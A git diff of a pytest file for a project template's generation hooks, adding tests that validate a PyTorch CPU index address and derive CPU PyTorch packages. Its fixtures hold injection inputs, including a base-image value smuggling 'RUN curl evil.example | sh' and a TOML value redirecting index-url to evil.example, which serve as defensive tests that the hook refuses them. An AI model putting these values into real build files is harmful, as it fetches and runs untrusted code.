@@ -10,14 +10,15 @@ import pytest
 
 from hooks import post_gen_project as post
 from hooks import pre_gen_project as pre
-from tests.support.answers import DEFAULT_ANSWERS, DEFAULT_SLUG, DEFAULTS, requirement_lines
+from tests.support.answers import DEFAULT_ANSWERS, DEFAULT_SLUG, DEFAULTS, SKIP_LOCK, bake, requirement_lines
 from tests.support.git import git
 
 
 def default_answers(**changes) -> dict:
     """The default answers as the hooks receive them: public ones, then the derived private ones."""
     answers = {**DEFAULT_ANSWERS, "project_slug": DEFAULT_SLUG}
-    answers["_jupyterhub_version"] = DEFAULTS["_jupyterhub_version"]
+    answers.update({key: value for key, value in DEFAULTS.items() if key.startswith("_") and not key.startswith("__")
+                    and not isinstance(value, dict)})
     answers.update({key: value for key, value in changes.items() if not key.startswith("__")})
     answers.update(pre.derived_answers(answers))
     answers.update({key: value for key, value in changes.items() if key.startswith("__")})
@@ -211,6 +212,7 @@ DERIVED_OVERRIDES = {
     "base-image-with-a-run-line": {"__base_image": "python:3.13-slim\nRUN curl evil.example | sh"},
     "image-with-yaml-keys": {"__image": "ghcr.io/x/y\n  evil: true"},
     "user-root": {"__user": "root"},
+    "pytorch-packages-into-toml": {"__pytorch_cpu": '["torch"]\n[tool.uv]\nindex-url = "http://evil.example"'},
 }
 
 
@@ -225,6 +227,41 @@ def test_private_values_given_as_answers_are_refused(changes):
 def test_jupyterhub_major_must_be_a_number(major):
     with pytest.raises(pre.InvalidAnswer, match="_jupyterhub_version"):
         pre.check_answers(default_answers(_jupyterhub_version=major))
+
+
+@pytest.mark.parametrize("url", ["http://127.0.0.1:8765/simple", "https://mirror.example.edu/pytorch/whl/cpu",
+                                 "https://download.pytorch.org/whl/cpu"])
+def test_pytorch_cpu_index_accepts_index_addresses(url):
+    pre.check_answers(default_answers(_pytorch_cpu_index=url))
+
+
+@pytest.mark.parametrize("url", ['https://x.example/"\nexplicit = false', "ftp://x.example/cpu", "x.example/cpu",
+                                 "https://x.example/cpu#frag", "https://x.example/a b", ""],
+                         ids=["toml-injection", "ftp", "no-scheme", "fragment", "space", "empty"])
+def test_pytorch_cpu_index_refuses_what_is_not_an_index_address(url):
+    with pytest.raises(pre.InvalidAnswer, match="_pytorch_cpu_index .* must be the address of a package index"):
+        pre.check_answers(default_answers(_pytorch_cpu_index=url))
+
+
+@pytest.mark.parametrize(
+    ("packages", "gpu", "expected"),
+    [
+        ("numpy, torch>=2,<3, torchvision[extra]", False, ["torch", "torchvision"]),
+        ("Torch torchaudio==2.15 torch", False, ["torch", "torchaudio"]),
+        ("numpy, torch", True, []),
+        ("numpy, torchmetrics, pytorch-lightning", False, []),
+    ],
+    ids=["with-specifiers-and-extras", "case-and-repeats", "gpu", "other-packages-named-torch"],
+)
+def test_pytorch_cpu_packages_are_the_pytorch_builds_a_course_without_gpus_uses(packages, gpu, expected):
+    assert pre.pytorch_cpu_packages(packages, gpu) == expected
+
+
+def test_cookiecutter_json_and_the_hook_agree_on_pytorch_cpu_packages(tmp_path):
+    # cookiecutter.json derives __pytorch_cpu in Jinja; the hook refuses generation if they disagree.
+    project = bake(tmp_path, {"packages": "numpy, Torch>=2,<3 torchvision[x] torchaudio==2.15 torch"}, SKIP_LOCK)
+    assert 'dependencies = ["torch", "torchvision", "torchaudio"]' in (
+        project / "pytorch-cpu" / "pyproject.toml").read_text()
 
 
 def test_awkward_but_valid_free_text_is_accepted():
